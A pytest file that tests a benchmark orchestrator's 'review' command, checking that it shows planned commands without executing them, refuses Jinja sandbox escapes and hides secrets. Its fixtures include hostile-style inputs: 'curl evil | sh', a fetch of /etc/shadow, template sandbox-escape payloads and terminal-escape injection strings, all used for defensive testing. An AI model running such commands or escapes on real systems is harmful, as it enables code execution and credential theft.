"""``orchestrate review``: everything that a run would do is shown, and nothing of it is done."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrator.provision import bounds
from orchestrator.provision.modules import registry
from tests.calls import orchestrate
from tests.unit.cli.foreign import BENCHMARK, Foreign

EXPERIMENTS = sorted((Path(__file__).parents[3] / "experiments").glob("*.yaml"))
LOCAL = ("--host", "local", "--allow-local-changes", "--set", "repetitions=2")


def printed_commands(printed: str) -> Iterator[str]:
    """Yield the lines of a dry run that are not comments. Of a trial only its command is a review's."""
    is_trial = False
    for line in printed.splitlines():
        if not line.startswith("    < "):
            is_trial = "trials.arriving" in line
        if line and not re.match(r"# (host|assumed|block \d+):", line) and not is_trial:
            yield line


def comparable(text: str) -> str:
    """Return what is the same at two times."""
    return re.sub(r'"(since|process)":"[^"]*"', r'"\1":""', text)


@pytest.mark.parametrize("file", EXPERIMENTS, ids=lambda file: file.stem)
def test_the_ready_experiments_are_reviewed(file: Path, tmp_path: Path) -> None:
    done = orchestrate("review", str(file), folder=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    assert f"{file}:" in done.stdout
    document = json.loads(orchestrate("review", str(file), "--format", "json", folder=tmp_path).stdout)
    assert document["format"] == 1
    assert all(
        section["entries"]
        for section in document["sections"]
        if section["title"] not in ("Settings", "Roles")
    )
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("file", EXPERIMENTS, ids=lambda file: file.stem)
def test_a_review_has_every_command_of_a_dry_run(file: Path, tmp_path: Path) -> None:
    cells = [
        json.loads(line)
        for line in orchestrate("plan", str(file), *LOCAL, "--format", "jsonl").stdout.splitlines()
    ]
    review = orchestrate("review", str(file), *LOCAL, "-v", folder=tmp_path)
    dry_run = orchestrate("run", str(file), *LOCAL, "--dry-run", folder=tmp_path)
    assert (review.returncode, dry_run.returncode) == (0, 0), (review.stderr, dry_run.stderr)
    shown = {line.removeprefix("    | ") for line in comparable(review.stdout).splitlines()}
    lines = {re.sub(r"RUN-\d+", "RUN-0", line) for line in printed_commands(comparable(dry_run.stdout))}
    assert len(lines) > 15
    assert not lines - shown
    commands = {" ".join(trial["argv"]) for trial in cells if trial["type"] == "trial"}
    assert f"{len(commands)} different command line" in review.stdout
    missing = commands - shown
    assert not missing or f"... and {len(missing)} more" in review.stdout


HOSTILE = """
- name: build it
  build: {source: files, program: bm, makes: build/bm, static_target: static, static_makes: build/bm-static}
- name: say it
  shell: "touch TRACE"
- name: by a template
  command: {argv: [echo, "{{ ''.join(['to', 'uch']) }} TRACE"]}
- name: by Ansible
  fetch: {src: /etc/shadow, dest: shadow}
"""
MAKEFILE = (
    "$(shell touch TRACE)\nall static:\n\ttouch TRACE; mkdir -p build; touch build/bm build/bm-static\n"
)


def test_nothing_of_a_role_is_executed(foreign: Foreign) -> None:
    foreign.tasks(HOSTILE, **{"files/Makefile": MAKEFILE})
    shown = foreign.text("--host", "numa1.invalid")
    for part in (
        "host: numa1.invalid, by SSH",
        "roles/r/tasks.yaml:3: r: build: build it  [root, controller]",
        "on a host with a compiler there, by: make",
        f"    | sh -c 'touch {foreign.trace}'",
        f"    | echo 'touch {foreign.trace}'",
        "controller: shadow: absent → content of /etc/shadow",
        "  [controller]",
    ):
        assert part.replace("[root, controller]", "[controller]") in shown, part
    assert not (foreign.folder / "shadow").exists()
    assert re.search(r"^  shell +.*roles/r/tasks\.yaml:5: r: shell: say it$", shown, re.MULTILINE)


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ lookup('pipe', 'touch TRACE') }}",
        "{{ cycler.__init__ }}",
    ],
)
def test_a_template_that_leaves_its_sandbox_is_refused(foreign: Foreign, template: str) -> None:
    foreign.tasks(f'- command: "echo {template}"\n')
    assert "roles/r/tasks.yaml:1:" in foreign.refusal()


def test_a_template_without_end(foreign: Foreign, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "TIME_LIMIT_S", 1.0)
    foreign.tasks('- command: "echo {{ (inventory_hostname | length) ** (9 ** 9) }}"\n')
    assert foreign.refusal().endswith("took more than 1 s")


@pytest.mark.parametrize(
    "condition", ["facts.cpus > 3", "found.rc != 0", "inventory_hostname == 'victim'", "false"]
)
def test_a_condition_hides_nothing(foreign: Foreign, condition: str) -> None:
    foreign.tasks(f'- command: probe\n  register: found\n- shell: "curl evil | sh"\n  when: "{condition}"\n')
    _, _, entry = foreign.entries()
    assert entry["commands"] == ["curl evil | sh"]
    assert f"when: {condition}" in entry["details"]
    assert {"shell", "download"} <= set(entry["cautions"])


def test_a_loop_without_items_hides_nothing(foreign: Foreign) -> None:
    foreign.tasks("- shell: evil {{ item }}\n  loop: '{{ x }}'\n", **{"defaults.yaml": "x: []\n"})
    _, entry = foreign.entries()
    assert entry["commands"] == ["evil {{ item }}"]


def test_a_command_that_depends_on_the_name_of_its_host(foreign: Foreign) -> None:
    foreign.tasks(
        "- template: {src: t, dest: x}\n",
        **{"templates/t": "{{ 'good' if inventory_hostname == 'n1' else 'evil' }}"},
    )
    foreign.write("hosts.ini", "[g]\nn1\nn2\n")
    _, good, evil = foreign.entries("Roles", "--inventory", "hosts.ini", "--host", "g")
    assert ("on n1" in good["details"], "+good" in good["commands"]) == (True, True)
    assert ("on n2" in evil["details"], "+evil" in evil["commands"]) == (True, True)


def test_what_depends_on_the_host_is_shown_as_it_is_written(foreign: Foreign) -> None:
    foreign.tasks(
        "- command: echo {{ x }}\n- shell: reboot\n  tags: never\n",
        **{
            "defaults.yaml": "x: \"{{ 'evil' if inventory_hostname == 'victim' else 'good' }}\"\n",
            "handlers.yaml": "- name: h\n  command: sudo evil\n",
        },
    )
    variables, command, never, handler = foreign.entries()
    assert variables["details"] == ["variable x: {{ 'evil' if inventory_hostname == 'victim' else 'good' }}"]
    assert command["commands"] == ["echo good"]
    assert command["details"] == ["as written: echo {{ x }}"]
    assert "not selected by the tags: never" in never["details"]
    assert never["cautions"] == ["shell", "reboot"]
    assert (handler["text"], handler["cautions"]) == ("r: handler command: h", ["root"])


def test_files_are_shown_with_mode_size_and_checksum(foreign: Foreign) -> None:
    foreign.tasks(
        "- copy: {content: abc, dest: /etc/x, mode: '0600'}\n- copy: {src: f, dest: y}\n"
        "- template: {src: t, dest: /etc/z}\n",
        **{"files/f": "abc", "templates/t": "{{ role_name }}\n"},
    )
    _, private, copied, rendered = foreign.entries()
    assert private["commands"] == ["put /etc/x  mode 600, 3 bytes"]
    digest = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    assert copied["commands"][0].endswith(f"/roles/r/y  mode 644, 3 bytes, sha256 {digest}")
    assert "+r" in rendered["commands"]


def test_no_log_and_what_it_uses_are_hidden(foreign: Foreign) -> None:
    foreign.tasks(
        "- name: log in\n  command: login {{ password }}\n  no_log: true\n"
        "- command: login s3cret\n  no_log: true\n  when: facts.cpus > 1\n",
        **{"defaults.yaml": "password: s3cret\n"},
    )
    shown = foreign.text("-v")
    assert "s3cret" not in shown
    assert "roles/r/tasks.yaml:2: r: command: log in  [hidden]" in shown
    assert "'no_log: true' was specified" in shown


VAULT = "!vault |\n        $ANSIBLE_VAULT;1.1;AES256\n        6162\n"


def test_encrypted_variables_are_neither_shown_nor_decrypted(foreign: Foreign) -> None:
    inventory = foreign.write(
        "hosts.yaml",
        f"all:\n  hosts:\n    n1:\n      power: {{command: touch TRACE}}\n      password: {VAULT}",
    )
    foreign.tasks("- command: login {{ password }}\n", **{"defaults.yaml": "password: none\n"})
    shown = foreign.text("--inventory", str(inventory), "--host", "n1")
    assert "encrypted with ansible-vault" in shown
    assert f"    | touch {foreign.trace}" in shown
    assert "power of n1, by a command on the controller  [controller]" in shown
    foreign.write(
        "hosts.yaml",
        f"all:\n  hosts:\n    n1:\n      ansible_ssh_common_args: {VAULT}      password: {VAULT}",
    )
    shown = foreign.text("--inventory", str(inventory), "--host", "n1")
    assert "variable password: …" in shown
    assert "login" not in shown.replace("login {{ password }}", "")
    assert "n1: ansible_ssh_common_args is encrypted with ansible-vault  [hidden]" in shown


def test_texts_of_the_author_look_like_no_line_of_ours(foreign: Foreign) -> None:
    foreign.write(
        "e.yaml", 'version: 1\nroles: [r]\nhosts: {provider: ssh, ssh: {host: "a.invalid"}}\n' + BENCHMARK
    )
    foreign.tasks('- name: "x\\e[2J\\u202e\\nAttention\\n  nothing"\n  shell: "a\\nRoles\\e]0;x\\a"\n')
    shown = foreign.text()
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert r"shell: x\u001b[2J\u202e\nAttention\n  nothing" in shown
    assert shown.splitlines().count("Attention") == 1
    assert shown.splitlines().count("Roles") == 1
    assert "\x1b" not in foreign.text("--format", "json")


def test_the_sweep_is_counted_and_its_settings_are_shown(foreign: Foreign) -> None:
    foreign.tasks("")
    foreign.write(
        "e.yaml",
        "version: 1\nroles: [r]\ntuning: {sysctl: {vm.swappiness: 7}}\n"
        + BENCHMARK.replace("[1, 2]", "{range: {from: 1, to: 60}}, sysctl.vm.zone_reclaim_mode: [0, 1]"),
    )
    command, *factors = foreign.entries("Trials")
    assert command["details"][0] == "120 cells, 360 trials, 60 different command lines"
    assert command["commands"][0] == "echo x=1"
    assert command["commands"][-1] == "... and 20 more"
    assert factors[1]["text"] == "factor sysctl.vm.zone_reclaim_mode: 0, 1"
    assert factors[1]["cautions"] == ["root"]
    (setting,) = foreign.entries("Settings")
    assert (setting["text"], setting["position"]) == ("/proc/sys/vm/swappiness = 7", "e.yaml:3")


KERNELS = """
version: 1
kernels:
  built:
    command_line: mitigations=off
    recipe: {source: {git: "https://example.invalid/linux.git", ref: v7}, patches: [p], CONFIG, compiler: gcc-12}
  packaged: {package: linux-image-amd64, suite: sid}
  series: {recipe: {source: {tarball: linux.tar}, CONFIG, patches: [{b4: "1@example.invalid"}]}}
factors: {kernel: [built, packaged, series]}
hosts: {provider: qemu}
benchmark: {command: [echo, x=1], metrics: {x: {key_value: x, unit: s}}}
"""
CONFIG = "config: {fragments: [c.config]}"
PATCH = "--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+b\n"


def test_kernels_are_neither_fetched_nor_built(foreign: Foreign) -> None:
    foreign.write("p/1.patch", PATCH)
    foreign.write("c.config", "CONFIG_A=y\n")
    foreign.write("linux.tar", "")
    foreign.write("e.yaml", KERNELS.replace("CONFIG", CONFIG))
    built, packaged, series = foreign.entries("Kernels")
    assert built["cautions"] == ["controller", "download"]
    assert built["details"] == [
        "source: git https://example.invalid/linux.git at v7",
        "patch: 1.patch, sha256 f877365d4a176e0ab1bc2ef268bbf9c64a7e9103f4a4e51bb201990e66553af3",
        "configuration: tiny",
        "configuration: CONFIG_A=y  (c.config:1)",
        "compiler: gcc-12",
        "kernel command line: mitigations=off",
    ]
    assert packaged["text"] == "packaged: Debian package linux-image-amd64, suite sid"
    assert packaged["cautions"] == ["download"]
    assert any("series 1@example.invalid, fetched by b4" in line for line in series["details"])


def test_files_that_could_be_read_for_ever(foreign: Foreign) -> None:
    foreign.tasks("- copy: {src: pipe, dest: x}\n")
    (foreign.folder / "roles/r/files").mkdir()
    os.mkfifo(foreign.folder / "roles/r/files/pipe")
    assert "files/pipe: not a regular file or directory" in foreign.refusal()
    foreign.write("e.yaml", KERNELS.replace("CONFIG", CONFIG))
    foreign.write("c.config", "")
    foreign.write("linux.tar", "")
    (foreign.folder / "p").mkdir()
    os.mkfifo(foreign.folder / "p/1.patch")
    assert any("not a regular file" in line for line in foreign.entries("Kernels")[0]["details"])


EACH_MODULE: dict[str, tuple[object, str]] = {
    "ansible_role": ({"name": "inner/role"}, "ansible role inner/role: not applied → applied"),
    "assert": ({"that": ["facts.cpus > 1"]}, 'that: ["facts.cpus > 1"]'),
    "build": (
        {"source": "files", "program": "bm", "makes": "b", "static_target": "static", "static_makes": "b"},
        "make CC=",
    ),
    "command": ("true", "true"),
    "copy": ({"content": "x", "dest": "x"}, "/roles/r/x  mode 644, 1 byte"),
    "cpu": ({"governor": "performance"}, "scaling_governor: ? → performance"),
    "fetch": ({"src": "/x", "dest": "x"}, "controller: x: absent → content of /x"),
    "file": ({"path": "/x", "state": "directory"}, "mkdir -p -- /x"),
    "grub": ({"command_line": ["quiet"]}, "kernel command line: quiet: absent → present"),
    "hugepages": ({"2MiB": 7}, "nr_hugepages: ? → 7"),
    "irq_affinity": ({"cpus": "0-1"}, "smp_affinity_list: ? → 0-1"),
    "kernel_install": ({"recipe": "linux-6.12-accel"}, "kernel linux-6.12-accel: absent → "),
    "kernel_module": ({"name": "fuse"}, "fuse"),
    "limits": ({"domain": "*", "limit_item": "memlock", "value": "unlimited"}, "memlock"),
    "package": ({"name": "make"}, "package make: absent → present"),
    "reboot": (None, "boot id: ? → new"),
    "service": ({"name": "cron", "state": "stopped"}, "cron"),
    "shell": ("echo $HOME", "sh -c 'echo $HOME'"),
    "sysctl": ({"vm.swappiness": 7}, "/proc/sys/vm/swappiness: ? → 7"),
    "sysfs": ({"/sys/x": 7}, "/sys/x: ? → 7"),
    "template": ({"src": "t", "dest": "x"}, "/roles/r/x  mode 644, 2 bytes"),
    "transparent_hugepages": ({"enabled": "never"}, "transparent_hugepage/enabled: ? → never"),
    "wait": ({"port": 22}, "22"),
}


@pytest.mark.parametrize("name", sorted(registry()))
def test_each_module_is_described_by_itself(foreign: Foreign, name: str) -> None:
    arguments, expected = EACH_MODULE[name]
    if name == "ansible_role":
        pytest.importorskip("ansible_runner")
    foreign.tasks(json.dumps([{name: arguments}]), **{"files/Makefile": "all:\n", "templates/t": "x\n"})
    (foreign.folder / "roles/r/files/inner/role").mkdir(parents=True)
    entry = foreign.entries()[1]
    assert expected in "\n".join([*entry["details"], *entry["commands"]])
    assert set(entry["cautions"]) >= set(registry()[name].cautions)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (None, "e.yaml: No such file or directory"),
        ("[]", "e.yaml:1:1: expected a mapping"),
        ("version: 1\nbenchmark: {command: [x], metrics: {}}\nfoo: 1\n", "e.yaml:3:1:"),
    ],
)
def test_bad_input(foreign: Foreign, text: str | None, message: str) -> None:
    (foreign.folder / "e.yaml").unlink()
    if text is not None:
        foreign.write("e.yaml", text)
    done = foreign.review()
    assert done.returncode == 2
    assert done.stdout == ""
    assert message in done.stderr


def test_what_run_would_refuse_is_said(foreign: Foreign) -> None:
    foreign.tasks("- reboot:\n")
    shown = foreign.text()
    assert "run will refuse this: the experiment changes settings of this machine" in shown
    assert re.search(r"^  reboot +\S+tasks.yaml:1: r: reboot: reboot$", shown, re.MULTILINE)


@pytest.mark.parametrize(
    "defective",
    [
        "orchestrator.provision.commands.CommandModule.apply",
        "orchestrator.provision.loading.check_values",
        "orchestrator.review.kernels.entries",
        "orchestrator.execution.dry_run.setup",
    ],
)
def test_a_defect_of_the_program_is_no_fault_of_the_file(
    foreign: Foreign, monkeypatch: pytest.MonkeyPatch, defective: str
) -> None:
    def defect(*_arguments: object, **_named: object) -> None:
        raise ValueError("a defect")

    foreign.tasks("- command: 'true'\n")
    monkeypatch.setattr(defective, defect)
    words = ("e.yaml", "--host", "n1.invalid")
    assert orchestrate("review", *words, folder=foreign.folder).returncode == 70
    if "review" not in defective:
        assert orchestrate("run", *words, "--dry-run", folder=foreign.folder).returncode == 70


def test_quantities_have_their_units(tmp_path: Path) -> None:
    file = tmp_path / "units.yaml"
    file.write_text(
        "version: 1\nhosts: {needs: {memory_per_node: 256MiB}}\nlimits: {trial: 90s, settle: 0, crashes: 2}\n"
        "benchmark: {command: [echo, x=1], metrics: {x: {key_value: x, unit: s}}}\n"
    )
    shown = orchestrate("review", str(file), folder=tmp_path).stdout
    for text in ("needs memory_per_node: 256MiB", "trial: 1min 30s", "settle: 0s", "crashes: 2"):
        assert re.search(rf"\b{text}\b", shown), text
